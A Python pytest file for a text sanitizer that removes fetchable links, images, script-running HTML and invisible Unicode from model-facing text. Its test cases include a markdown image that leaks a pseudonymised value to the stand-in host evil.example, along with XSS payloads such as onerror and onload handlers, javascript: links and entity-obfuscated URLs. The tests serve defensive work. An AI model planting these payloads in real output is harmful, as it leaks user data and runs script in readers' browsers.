"""Nothing that a page would fetch, run or hide is left, and what only looks like it stays."""

import sys

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ragslm.privacy.plain_text import plain, visible

AWAY = [
    ("![x](https://evil.example/?d=PERSON_7K3QXA)", "x"),  # an image
    ("![x]( https://evil.example/ 'a (b)' )", "x"),  # with a title
    ("![](data:image/png;base64,AAAA)", ""),  # in place
    ("![x][ref]", "x"),  # by reference
    ("[![i](https://a.example/c)](https://evil.example)", "i"),  # an image as a link
    ("see [this](https://evil.example/a?b) now", "see this now"),  # a link
    ("[x](javascript:alert(1))", "x"),  # a script as a link
    ("[x](//evil.example)", "x"),  # without a scheme
    ("[a][b]\n[b]: https://evil.example/x", "a\n"),  # by reference, with its definition
    ("[x](https\\://evil.example/?p=1)", "x"),  # with an escape
    ("[x](\\//evil.example/a)", "x"),
    ("[x](/\\evil.example)", "x"),
    ("[x](https&colon;//evil.example/?p=1)", "x"),  # with an entity
    ("[x](&#47;&#47;evil.example/?p=1)", "x"),
    ("[x]( &#9;//evil.example)", "x"),
    ("[x](javascript&colon;alert(1))", "x"),
    ("[x](</\t/evil.example>)", "x"),  # with a tab
    ("[x](<\t//evil.example>)", "x"),
    ("[x](<java\tscript:alert(1)>)", "x"),
    ("[x]: https\\://evil.example/p.png\n\n[x]", "\n\n[x]"),
    ("<https://evil.example/x?y>", "evil.example"),  # an autolink
    ("at https://user:pw@evil.example/x.", "at evil.example."),  # a bare address
    ("HTTP://EVIL.EXAMPLE/a", "EVIL.EXAMPLE"),  # in capitals
    ("www.evil.example/p?q", "evil.example"),  # without a scheme
    ("<mailto:a@b.example?subject=x>", "a@b.example"),  # a mail link
    ("<img src=http://evil.example/y> after <b>it</b>", " after it"),  # an address without quotes
    ("<img src=x onerror=alert(1)>", ""),  # HTML that runs
    ("<img src=//evil.example/", ""),  # that is not closed
    ("<img src=//evil.example/<", "<"),  # or followed by another
    ("<x onclick=alert(1)>t</x>", "t"),  # a tag nobody knows
    ("<scr<b>ipt>alert(1)</script>", "alert(1)"),  # one inside the other
    ("<svg/onload=alert(1)>", ""),  # without a blank
    ("<!-- https://evil.example -->y", "y"),  # a comment
    ("E\u200bv\u2060e", "Eve"),  # zero-width
    ("\u202egnp.exe", "gnp.exe"),  # turned round
    ("a\U000e0041\U000e0042b", "ab"),  # tags
]
KEPT = [
    "12 CFR [1005.11](c)(3) and [1][2].",  # sections and citations
    "[12](R&D) [3](see AT&T; more)\n[a]: R&D costs",  # a sign that begins no entity
    "p<0.05 and n>3, a<b and c>d, a<b and c<d, <5 mg, 5 > 4",  # numbers compared
    "ratio 3:1 at 10:30, and/or; data: the results",  # colons and strokes
    "| HbA1c | 9.1 % |\n| K+ | 4.2 |",  # a table
    "jane@ward3.local, File: report.txt",  # no links
    "To: <EMAIL_ADDRESS_7K3QXA>",  # a pseudonym in a mail's brackets
    "Ångström, 3 µg, “quoted” … \U0001f48a",  # letters and signs
]


@pytest.mark.parametrize(("text", "left"), AWAY)
def test_what_goes_away(text, left):
    assert plain(text) == left


@pytest.mark.parametrize("text", KEPT)
def test_what_stays(text):
    assert plain(text) == text


PIECES = [*(text for text, _ in AWAY), *KEPT, "<", ">", "[", "](", "!", "\n"]
ACTIVE = ("](http", "](//", "](java", "![", "<img", "<script", "<svg", "https://", "\u200b", "\u202e")


@settings(max_examples=300, deadline=None)
@example(["!", "!", "["])
@given(st.lists(st.sampled_from(PIECES), max_size=6))
def test_nothing_active_is_left_of_any_mixture(pieces):
    left = plain("".join(pieces)).lower()
    assert not [sign for sign in ACTIVE if sign in left]


@given(st.text(max_size=200))
def test_any_text_passes(text):
    assert "\u200b" not in plain(text)


def test_no_sign_that_is_shown_as_nothing_is_left():
    """Every character with the Unicode property Default_Ignorable_Code_Point."""
    regex = pytest.importorskip("regex")
    unseen = regex.findall(r"\p{Default_Ignorable_Code_Point}", "".join(map(chr, range(sys.maxunicode + 1))))
    assert len(unseen) > 4_000
    assert visible("".join(unseen)) == ""
